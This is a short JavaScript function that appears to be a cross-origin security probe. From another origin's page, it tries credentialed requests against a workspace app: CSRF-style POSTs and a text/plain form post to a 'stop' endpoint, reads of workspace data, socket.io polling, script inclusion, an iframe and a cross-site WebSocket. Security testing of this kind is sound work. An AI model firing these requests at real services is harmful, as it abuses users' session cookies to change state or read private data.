// Everything a page of another origin can try with the cookie that the browser sends for it.
async (target) => {
  const call = `${target}/api/workspaces/demo/hello-go/stop`;
  const tries = {
    text: () => fetch(call, {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}),
    empty: () => fetch(call, {method: 'POST', mode: 'no-cors', credentials: 'include'}),
    json: () => fetch(call, {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'}}),
    read: () => fetch(`${target}/api/workspaces/demo`, {credentials: 'include'}).then(r => r.text()),
    poll: () => fetch(`${target}/socket.io/?EIO=4&transport=polling`, {credentials: 'include'}).then(r => r.text()),
    frame: () => new Promise((done, fail) => {
      const frame = document.createElement('iframe');
      frame.src = target;
      frame.onload = () => { try { done(frame.contentDocument.title); } catch (e) { fail(e); } };
      document.body.append(frame);
    }),
    form: () => new Promise(done => {
      const frame = document.createElement('iframe');
      frame.name = 'sink';
      frame.onload = () => done('sent');
      const form = document.createElement('form');
      Object.assign(form, {action: call, method: 'POST', target: 'sink', enctype: 'text/plain'});
      document.body.append(frame, form);
      form.submit();
    }),
    script: () => new Promise((done, fail) => {
      const script = document.createElement('script');
      script.src = `${target}/socket.io/?EIO=4&transport=polling&j=0`;
      script.onload = done; script.onerror = () => fail(new Error('blocked'));
      document.body.append(script);
    }),
    socket: () => new Promise((done, fail) => {
      const socket = new WebSocket(`${target.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
      socket.onopen = () => done('open'); socket.onerror = () => fail(new Error('refused'));
    }),
  };
  const results = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { const answer = await attempt(); results[name] = answer?.type ?? String(answer ?? 'done'); }
    catch (error) { results[name] = 'failed'; }
  }
  return results;
}
